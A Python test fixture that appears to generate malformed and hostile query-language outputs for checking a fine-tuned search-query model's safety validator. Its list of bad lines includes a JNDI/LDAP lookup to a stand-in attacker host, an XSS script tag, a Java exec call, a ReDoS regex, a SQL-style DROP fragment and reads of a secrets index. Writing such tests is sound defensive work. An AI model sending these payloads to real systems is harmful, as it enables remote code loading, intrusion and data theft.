"""What the fine-tuned model should not write: shorthand, spoilt in each way of `KINDS`, from a seed.

`hostile.fault` judges the queries that are read out of it.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator

from demo_server.nlq.shorthand import NoShorthand, written
from tests.unit.server.hostile import CLAUSES, FIELDS, NAMES, NUMBERS, TEXTS, VALUES, good

LINES = [
    "script = Runtime.getRuntime().exec('id')", "author ~ /.*a{99}/", "title ~ *", "title ~ _index:secrets OR *:*",
    "author = {\"index\": \"secrets\", \"id\": \"1\", \"path\": \"author\"}", "_index = secrets", "_id = 1",
    "author | _id = x", "title | secrets:title ~ x", "not not author = x", "has _ignored", "no *", "has author.keyword",
    "show 9999", "show 51", "show -1", "top 99 pages desc", "sort _id asc", "sort title asc", "top 10 _score desc",
    "per author top 99999", "per author top 100; per title.raw top 101", "per pages by 0", "per pages by 1e-9",
    "per pages by 0.00001", "per publication_date by second", "per title", "per author; per pages; per title.raw",
    "per author; avg title desc", "avg author", "sum publication_date", "distinct title", "distinct _index",
    "pages = 99999999999999999999", "pages < NaN", "pages = Infinity", "pages = 1e400", "pages > 10;DROP",
    "publication_date > now-1d/d+999999999y", "publication_date = 0000..9999", "publication_date > 2024-02-31",
    "publication_date = ${jndi:ldap://evil.example/x}", "cannot: <script>alert(1)</script>", "cannot:", "all\nall",
    "author = x | " * 40 + "x", "author = " + "x" * 5_000, "title ~ \"" + "y" * 201 + "\"", "= = =", "|",
    "author =", "~ x", "GET /secrets/_search", "POST _bulk", "author = x\u0000", "title ~ a\u0007b", "author = \ud800",
    "author = a\u2028b",
]  # fmt: skip
SIGNS = ["=", "~", "<", "<=", ">", ">=", "..", " | ", "; ", '"', "\u0000", "\u200b", "not ", "per ", "top ", "\n", "{"]


def _fine(rng: random.Random) -> list[str]:
    """Lines of a query that may run."""
    while True:
        try:
            return written(good(rng)).splitlines()
        except NoShorthand:
            continue


def _line(rng: random.Random, lines: list[str]) -> str:
    lines[rng.randrange(len(lines))] = rng.choice(LINES)
    return "\n".join(lines)


def _field(rng: random.Random, lines: list[str]) -> str:
    text = "\n".join(lines)
    name = rng.choice([field for field in FIELDS if field in text] or ["author"])
    return text.replace(name, rng.choice(NAMES), 1)


def _value(rng: random.Random, lines: list[str]) -> str:
    name, sign = rng.choice(list(FIELDS)), rng.choice(["=", "~", "<", ">="])
    return "\n".join([f"{name} {sign} {rng.choice([*VALUES, *NUMBERS, *TEXTS])}", *lines])


def _size(rng: random.Random, lines: list[str]) -> str:
    number = rng.choice(NUMBERS)
    wanted = [
        "show {}",
        "top {} pages desc",
        "per author top {}",
        "per pages by {}",
        "per author; per title.raw top {}",
    ]
    return "\n".join([*lines[:-1], rng.choice(wanted).format(number)])


def _many(rng: random.Random, lines: list[str]) -> str:
    return "\n".join(
        [rng.choice(["author = x", "not title ~ x", "pages > 1", *lines])] * rng.choice([9, 33, 1_000]) + lines
    )


def _sign(rng: random.Random, lines: list[str]) -> str:
    text = "\n".join(lines)
    at = rng.randrange(len(text) + 1)
    return text[:at] + rng.choice(SIGNS) + text[at + rng.randrange(2) :]


def _other(rng: random.Random, lines: list[str]) -> str:
    """The language of the other strategies, where it has no meaning."""
    evil = json.dumps({"query": rng.choice(CLAUSES)})
    return rng.choice([evil, "\n".join([*lines, evil]), f"author = {evil}\n{lines[-1]}", rng.choice(TEXTS)])


KINDS: dict[str, Callable[[random.Random, list[str]], str]] = {
    "line": _line, "field": _field, "value": _value, "size": _size, "many": _many, "sign": _sign, "other": _other,
}  # fmt: skip


def outputs(seed: int, count: int) -> Iterator[tuple[str, str]]:
    """`count` pairs of a kind and what the model wrote, the same ones for the same seed."""
    rng = random.Random(seed)
    for number in range(count):
        kind = list(KINDS)[number % len(KINDS)]
        yield kind, KINDS[kind](rng, _fine(rng))
